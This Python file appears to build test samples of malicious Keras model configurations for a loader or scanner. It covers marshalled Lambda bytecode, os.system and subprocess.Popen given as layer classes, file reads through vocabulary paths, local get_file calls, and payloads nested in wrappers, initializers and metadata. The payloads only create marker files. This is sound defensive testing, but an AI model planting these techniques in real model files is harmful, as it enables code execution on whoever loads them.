"""Attacks by configuration: code, calls and files named where a layer or a number is expected.

Harmless payloads: a marker file, a setting of Keras, a local file to read, a local address to call.
"""

from __future__ import annotations

import base64
import json
import marshal
from pathlib import Path

from corpus import Shelf, Target, config_of, function, in_both, inserted, layer, part, tensor, with_config

CONFIGS = Shelf()


# A Lambda ------------------------------------------------------------------------------------------


def byte_code(target: Target) -> str:
    """A function of one argument that makes the marker file and gives its argument back."""
    text = f"lambda x: (open({str(target.marker)!r}, 'w').close(), x)[1]"
    return base64.b64encode(marshal.dumps(compile(text, "sample", "eval").co_consts[0])).decode()


def anonymous(target: Target) -> dict:
    """The same, as Keras 3 stores it."""
    return {
        "class_name": "__lambda__",
        "config": {"code": byte_code(target), "defaults": None, "closure": None},
    }


def coded(target: Target, name: str = "extra") -> dict:
    """A Lambda layer with byte code, which keeps the shape."""
    return layer("Lambda", name=name, function=anonymous(target), arguments={})


def calling(module: str, name: str, argument: str, **arguments) -> tuple[dict, list]:
    """A Lambda that names a public function and is called on a text instead of a picture."""
    extra = layer("Lambda", function=function(name, module), arguments=arguments)
    return extra, [{"args": [], "kwargs": {"inputs": argument}}]


in_both(CONFIGS, "lambda_code", "E_MODEL_CODE", lambda e, t: inserted(coded(t), e))


@CONFIGS.add("E_MODEL_CODE")
def lambda_code_in_a_list_of_keras_1(folder, target):
    extra = {"name": "extra", "function": [byte_code(target), None, None], "function_type": "lambda"}
    extra |= {"output_shape": None, "output_shape_type": "raw", "arguments": {}}
    first = {"name": "first", "batch_input_shape": [None, 12, 12, 3], "filters": 4, "kernel_size": [3, 3]}
    layers = [{"class_name": "Conv2D", "config": first}, {"class_name": "Lambda", "config": extra}]
    path = folder / "keras_1.h5"
    path.write_bytes(with_config({"class_name": "Sequential", "config": layers}, ".h5", version="1.2.2"))
    return path


in_both(
    CONFIGS,
    "lambda_sets_floatx",
    "E_MODEL_CODE",
    lambda e, t: inserted(*with_ending(e, *calling("keras.config", "set_floatx", "float64"))),
    "state",
)
in_both(
    CONFIGS,
    "lambda_sets_data_format",
    "E_MODEL_CODE",
    lambda e, t: inserted(
        *with_ending(e, *calling("keras.config", "set_image_data_format", "channels_first"))
    ),
    "state",
)
in_both(
    CONFIGS,
    "lambda_sets_dtype_policy",
    "E_MODEL_CODE",
    lambda e, t: inserted(*with_ending(e, *calling("keras.config", "set_dtype_policy", "mixed_bfloat16"))),
    "state",
)
in_both(
    CONFIGS,
    "lambda_calls_an_address",
    "E_MODEL_CODE",
    lambda e, t: inserted(
        *with_ending(
            e, *calling("keras.utils", "get_file", "sample", origin=f"http://127.0.0.1:{t.port}/sample")
        )
    ),
)
in_both(
    CONFIGS,
    "lambda_opens_a_saved_model",
    "E_MODEL_CODE",
    lambda e, t: inserted(
        *with_ending(e, *calling("keras.layers", "TFSMLayer", str(planted(t)), call_endpoint="serve"))
    ),
    "marker",
)
in_both(
    CONFIGS,
    "lambda_reads_weights_of_the_server",
    "E_MODEL_CODE",
    lambda e, t: inserted(
        *with_ending(e, *calling("keras.applications", "MobileNet", "", weights=str(t.secret)))
    ),
)


def with_ending(ending: str, extra: dict, inbound: list) -> tuple:
    return extra, ending, inbound


def planted(target: Target) -> Path:
    """A SavedModel already on the server, which makes the marker file while it is opened."""
    from corpus_attacks_graphs import write_planted

    return write_planted(target)


# A layer that opens or reads files -----------------------------------------------------------------

in_both(
    CONFIGS,
    "tfsm_layer",
    "E_MODEL_CODE",
    lambda e, t: inserted(layer("TFSMLayer", filepath=str(planted(t)), call_endpoint="serve"), e),
)
in_both(
    CONFIGS,
    "string_lookup_vocabulary",
    "E_MODEL_CODE",
    lambda e, t: inserted(layer("StringLookup", vocabulary=str(t.secret)), e),
)
in_both(
    CONFIGS,
    "text_vectorization_vocabulary",
    "E_MODEL_CODE",
    lambda e, t: inserted(layer("TextVectorization", vocabulary=str(t.secret)), e),
)
in_both(
    CONFIGS,
    "integer_lookup_vocabulary",
    "E_MODEL_CODE",
    lambda e, t: inserted(layer("IntegerLookup", vocabulary=str(t.secret)), e),
)

# Something from anywhere ---------------------------------------------------------------------------

in_both(
    CONFIGS,
    "class_of_os",
    "E_CUSTOM_CLASS",
    lambda e, t: inserted(anywhere(layer("system", "os", command=f"touch {t.marker}")), e),
)
in_both(
    CONFIGS,
    "class_of_subprocess",
    "E_CUSTOM_CLASS",
    lambda e, t: inserted(anywhere(layer("Popen", "subprocess", args=["touch", str(t.marker)])), e),
)
in_both(
    CONFIGS,
    "custom_class",
    "E_CUSTOM_CLASS",
    lambda e, t: inserted(anywhere(layer("MyLayer", "my.module")), e),
)
in_both(
    CONFIGS,
    "disguised_lambda",
    "E_CUSTOM_CLASS",
    lambda e, t: inserted(coded(t) | {"registered_name": "Lambda", "class_name": "MyLayer"}, e),
)


def anywhere(extra: dict) -> dict:
    return extra | {"registered_name": extra["class_name"]}


@CONFIGS.add("E_CUSTOM_CLASS")
def the_model_itself_is_a_call(folder, target):
    path = folder / "model.keras"
    whole = {"module": "os", "class_name": "system", "config": {"command": f"touch {target.marker}"}}
    path.write_bytes(with_config(whole | {"registered_name": "system"}))
    return path


# Hidden deeper -------------------------------------------------------------------------------------


def hidden(name: str, code: str, change, harm: str = "") -> None:
    """A sample 'hidden_in_NAME' in .keras: change(config, target) puts it into the base's configuration."""

    def make(folder: Path, target: Target) -> Path:
        config = config_of()
        path = folder / f"{name}.keras"
        path.write_bytes(with_config(change(config, target) or config))
        return path

    CONFIGS.add(code, harm, f"hidden_in_{name}")(make)


def setting(name: str, value):
    """Puts value(target) into that setting of the convolution."""

    def change(config, target):
        part(config, "conv")["config"][name] = value(target)

    return change


def setter(_: Target) -> dict:
    return function("set_floatx", "keras.config")


hidden("a_wrapper", "E_MODEL_CODE", lambda c, t: inserted(layer("TimeDistributed", layer=coded(t, "inner"))))
hidden(
    "a_bidirectional", "E_MODEL_CODE", lambda c, t: inserted(layer("Bidirectional", layer=coded(t, "inner")))
)
hidden("a_pipeline", "E_MODEL_CODE", lambda c, t: inserted(layer("Pipeline", layers=[coded(t, "inner")])))
hidden("a_recurrent_cell", "E_MODEL_CODE", lambda c, t: inserted(layer("RNN", cell=coded(t, "inner"))))
hidden("three_models", "E_MODEL_CODE", lambda c, t: inserted(boxed(boxed(boxed(coded(t, "inner"))))))
hidden("an_initializer", "E_MODEL_CODE", setting("kernel_initializer", setter))
hidden("a_regularizer", "E_MODEL_CODE", setting("kernel_regularizer", anonymous))
hidden("a_constraint", "E_MODEL_CODE", setting("kernel_constraint", setter))
hidden("a_dtype_policy", "E_MODEL_CODE", setting("dtype", setter))
hidden("an_activation", "E_MODEL_CODE", setting("activation", anonymous))
hidden("a_named_activation", "E_MODEL_CODE", setting("activation", setter))
hidden("an_activation_of_os", "E_MODEL_CODE", setting("activation", lambda t: function("system", "posix")))
hidden(
    "an_unknown_setting", "E_MODEL_CODE", setting("nobody_knows", lambda t: {"deep": [{"deeper": coded(t)}]})
)
hidden("a_number", "E_MODEL_CODE", setting("filters", anonymous))
hidden("a_typespec", "E_MODEL_CODE", setting("activation", lambda t: {
    "class_name": "__typespec__", "spec_name": "Popen", "module": "subprocess", "registered_name": "Popen",
    "config": [["touch", str(t.marker)]],
}))  # fmt: skip


def boxed(inner: dict, name: str = "box") -> dict:
    """A Sequential around a layer."""
    config = {"name": f"{name}_{inner['name']}", "trainable": True, "layers": [inner]}
    return {"module": "keras", "class_name": "Sequential", "config": config, "registered_name": None,
            "name": config["name"]}  # fmt: skip


@CONFIGS.add("E_MODEL_CODE")
def hidden_in_the_arguments_of_a_call(folder, target):
    config = config_of()
    part(config, "conv")["inbound_nodes"] = [
        {"args": [tensor("image")], "kwargs": {"mask": anonymous(target)}}
    ]
    path = folder / "call.keras"
    path.write_bytes(with_config(config))
    return path


# What is never built is dropped: these open, and nothing happens.


def compiled(config, target):
    config["compile_config"] = {"optimizer": "adam", "loss": anonymous(target), "metrics": [setter(target)]}


def built(config, target):
    part(config, "conv")["build_config"] = {"input_shape": anonymous(target)}


hidden("compile_config", "", compiled)
hidden("build_config", "", built)


@CONFIGS.add("")
def hidden_in_metadata(folder, target):
    from corpus import base, members, packed

    path = folder / "metadata.keras"
    parts = members(base(".keras"))
    told = json.loads(parts["metadata.json"]) | {"more": coded(target)}
    path.write_bytes(packed(parts | {"metadata.json": json.dumps(told)}))
    return path


# Names that are no file ----------------------------------------------------------------------------


for _start in ("gs://bucket/", "hf://user/", "s3://bucket/", "http://127.0.0.1:{port}/", "file:///etc/"):
    CONFIGS.add("E_MODEL_NAME", name=f"name_{_start.partition(':')[0]}")(
        lambda folder, target, start=_start: start.format(port=target.port) + "model.keras"
    )
